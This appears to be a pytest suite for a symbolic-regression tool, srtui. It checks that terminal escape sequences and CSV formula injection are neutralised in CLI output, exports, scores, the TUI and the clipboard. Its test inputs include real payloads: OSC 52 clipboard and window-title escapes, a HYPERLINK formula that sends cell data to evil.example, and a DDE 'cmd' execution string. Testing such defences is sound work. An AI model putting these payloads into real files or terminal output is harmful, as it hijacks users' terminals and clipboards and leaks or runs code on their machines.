"""Done-when of the escape-injection hardening: a method whose folder name, model, Pareto front,
stderr and error message carry terminal escape sequences, through `srtui run` (on a pty, the live
panel), `results`, `export` and `score` in every format and the app (Pilot with a driver that
captures every byte written to the terminal, and the clipboard): no sequence reaches a terminal
or the clipboard raw, and CSV cells a spreadsheet would run are neutralised."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPO, srtui

#: the sequences of the issue: clipboard (OSC 52), window title (OSC 0), clear screen, 8-bit CSI
SEQUENCES = ("\x1b]52;c;cHduZWQ=\x1b\\", "\x1b]0;PWNTITLE\x07", "\x1b[2J", "\x9b31m")
EVIL = " ".join(SEQUENCES)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAME = "evil\x1b]0;PWNTITLE\x07"  # a --method-dir folder name
RAISER = "@raiser"

REGRESSOR = f"""
import sys
import numpy as np
from sklearn.base import BaseEstimator, RegressorMixin
EVIL = {EVIL!r}
class Evil(RegressorMixin, BaseEstimator):
    def __init__(self, max_time=100):
        self.max_time = max_time
    def fit(self, X, y):
        sys.stderr.write("stderr " + EVIL + "\\n")
        if RAISE:
            raise RuntimeError("error " + EVIL)
        self.mean_ = float(np.mean(y))
        return self
    def predict(self, X):
        return np.full(len(X), self.mean_)
est = Evil()
def model(est, X=None):
    return {FORMULA!r} + EVIL
def get_population(est):
    return [est]
def complexity(est):
    return 1
"""


def assert_no_raw_sequence(text: str, where: str) -> None:
    for seq in SEQUENCES:
        assert seq not in text, (where, seq)
    assert "\x9b" not in text, where


def assert_no_escape_byte(text: str, where: str) -> None:
    assert "\x1b" not in text and "\x9b" not in text, where


def run_on_pty(args: list[str], timeout: float = 240) -> str:
    """`srtui ARGS` with its stdout and stderr on a pseudo-terminal (the live panel is drawn)."""
    master, slave = pty.openpty()
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "200", "LINES": "40"}
    env.pop("SRTUI_WORKSPACE", None)
    proc = subprocess.Popen(
        [sys.executable, "-m", "srtui", *args], stdin=slave, stdout=slave, stderr=slave, env=env, cwd=REPO
    )
    os.close(slave)
    out = bytearray()
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    proc.wait(timeout=timeout)
    os.close(master)
    assert proc.returncode == 0, out.decode("utf-8", "replace")[-2000:]
    return out.decode("utf-8", "replace")


@pytest.fixture(scope="module")
def evil_ws(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("evil")
    dirs = []
    for name, raises in ((NAME, False), (RAISER, True)):
        folder = root / name
        folder.mkdir()
        (folder / "regressor.py").write_text(f"RAISE = {raises}\n" + REGRESSOR)
        dirs += ["--method-dir", str(folder)]
    ws = root / "ws"
    out = run_on_pty(
        [
            "run",
            "smoke",
            "--methods",
            f"{NAME},{RAISER},probe-noop",
            "--tasks",
            "smoke-linear,smoke-interaction",
            *dirs,
            "--workspace",
            str(ws),
        ]
    )
    assert_no_raw_sequence(out, "srtui run on a terminal")
    assert "\\x1b]0;PWNTITLE" in out  # the folder name is shown, visibly
    return ws


@pytest.mark.slow  # over 8 s on a quiet machine: CI's slow step runs it
def test_results_in_both_formats(evil_ws: Path) -> None:
    out = srtui("results", "--workspace", str(evil_ws), check=True).stdout
    assert_no_escape_byte(out, "results csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    evil = next(r for r in rows if r["method"] == NAME.replace("\x1b", "\\x1b").replace("\x07", "\\x07"))
    assert evil["model"].startswith("'=HYPERLINK(") and "\\x1b]52;c;" in evil["model"]
    assert evil["stderr_tail"].startswith("stderr \\x1b]52")
    raiser = next(r for r in rows if r["method"] == "'" + RAISER)
    assert raiser["status"] == "error" and "error \\x1b]52" in raiser["error"]
    assert float(raiser["r2_test"] or 0) == 0 or raiser["r2_test"] == ""
    raw = srtui("results", "--raw", "--workspace", str(evil_ws), check=True).stdout
    assert_no_escape_byte(raw, "results --raw")
    assert any(r["model"].startswith("=HYPERLINK(") for r in csv.DictReader(io.StringIO(raw)))
    js = srtui("results", "--format", "json", "--workspace", str(evil_ws), check=True).stdout
    assert_no_escape_byte(js, "results json")
    import json

    models = [r["model"] for r in json.loads(js)]
    assert any(m and m.startswith(FORMULA + SEQUENCES[0]) for m in models)  # JSON is exact


@pytest.mark.slow  # over 8 s on a quiet machine: CI's slow step runs it
@pytest.mark.parametrize("fmt", ["csv", "md", "latex", "json"])
def test_export_every_format(evil_ws: Path, tmp_path: Path, fmt: str) -> None:
    proc = srtui("export", "--format", fmt, "--workspace", str(evil_ws), check=True)
    assert_no_escape_byte(proc.stdout + proc.stderr, f"export {fmt}")
    srtui("export", "--format", fmt, "--out", str(tmp_path), "--workspace", str(evil_ws), check=True)
    for path in tmp_path.iterdir():
        assert_no_escape_byte(path.read_text(), str(path))
    if fmt == "csv":
        assert "'=HYPERLINK(" in proc.stdout and ",=HYPERLINK(" not in proc.stdout


@pytest.mark.slow  # over 8 s on a quiet machine: CI's slow step runs it
@pytest.mark.parametrize("fmt", ["table", "csv", "md", "latex", "json"])
def test_score_every_format(evil_ws: Path, fmt: str) -> None:
    proc = srtui("score", "wilcoxon", "--format", fmt, "--workspace", str(evil_ws))
    assert proc.returncode == 0, proc.stderr
    assert_no_escape_byte(proc.stdout + proc.stderr, f"score {fmt}")
    assert "PWNTITLE" in proc.stdout
    if fmt == "csv":
        assert "'@raiser" in proc.stdout and ",@raiser" not in proc.stdout and "\n@raiser" not in proc.stdout


def test_score_from_csv_names(tmp_path: Path) -> None:
    runs = tmp_path / "runs.csv"
    with open(runs, "w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["task", "method", "r2_test"])
        for task in ("t1", "t2"):
            writer.writerows([[task, FORMULA, 0.5], [task, "+cmd|' /C calc'!A0", -1.5], [task, "x\x1b[2J", 0.7]])
    proc = srtui("score", "wilcoxon", "--from-csv", str(runs), "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    assert_no_escape_byte(proc.stdout, "score --from-csv")
    assert "'=HYPERLINK(" in proc.stdout and "'+cmd|" in proc.stdout


# --- the app ------------------------------------------------------------------------------------


def capturing_driver(sink: list[str]):
    from textual.drivers.headless_driver import HeadlessDriver

    class Capturing(HeadlessDriver):
        """Renders as a real terminal would be sent (not headless), into ``sink``."""

        @property
        def is_headless(self) -> bool:
            return False

        def write(self, data: str) -> None:
            sink.append(data)

    return Capturing


def job_of(ws: Path, method: str) -> str:
    from srtui.engine.workspace import Workspace
    from srtui.results.store.store import Store

    store = Store(Workspace(ws), readonly=True)
    try:
        return next(j["job_id"] for j in store.jobs() if j["method"] == method and j["task"] == "smoke-linear")
    finally:
        store.close()


async def _wait(pilot, condition, timeout: float = 20.0) -> None:
    end = asyncio.get_running_loop().time() + timeout
    while not condition():
        assert asyncio.get_running_loop().time() < end, "condition not reached in time"
        await pilot.pause(0.05)


async def _drive_app(ws: Path, sink: list[str]) -> list[str]:
    from srtui.app.app import SrtuiApp
    from srtui.app.screens.expression import ExpressionScreen
    from srtui.engine.workspace import Workspace

    app = SrtuiApp(Workspace(ws), label="evil", theme="textual-dark")
    app.driver_class = capturing_driver(sink)
    clipboard = []
    async with app.run_test(headless=False, size=(160, 50)) as pilot:
        await pilot.pause(0.5)  # the monitor, with its failures
        await pilot.press("2")  # the explorer: models and names in a table
        await _wait(pilot, lambda: getattr(app.screen, "page", None) is not None)
        await pilot.pause(0.3)
        for method in (NAME, RAISER):
            app.open_expression(job_of(ws, method))
            screen = app.screen
            assert isinstance(screen, ExpressionScreen)
            await _wait(pilot, lambda screen=screen: screen.detail is not None)
            if method == NAME:  # its Pareto front is on screen too
                assert screen.detail is not None
                assert screen.detail.pareto and "\\x1b]52" in screen.detail.pareto[0]["expression"]
            await pilot.pause(0.3)
            await pilot.press("c")  # copy: OSC 52 to the terminal
            clipboard.append(app.clipboard)
            await pilot.press("escape")
        await pilot.press("1")
        await pilot.pause(0.5)
    return clipboard


def test_app_screens_and_clipboard(evil_ws: Path) -> None:
    sink: list[str] = []
    clipboard = asyncio.run(_drive_app(evil_ws, sink))
    terminal = "".join(sink)
    assert "PWNTITLE" in terminal  # the screens did show the evil strings, visibly
    assert_no_raw_sequence(terminal, "app terminal output")
    # the only OSC 52 on the wire are srtui's own copies, and what they carry is clean
    payloads = [p.split("\x07")[0] for p in terminal.split("\x1b]52;c;")[1:]]
    assert payloads and all(base64.b64decode(p).decode() in clipboard for p in payloads)
    for text in clipboard:
        assert text and "\x1b" not in text and "\x9b" not in text and "\x07" not in text
    assert any("\\x1b]52;c;" in text for text in clipboard)
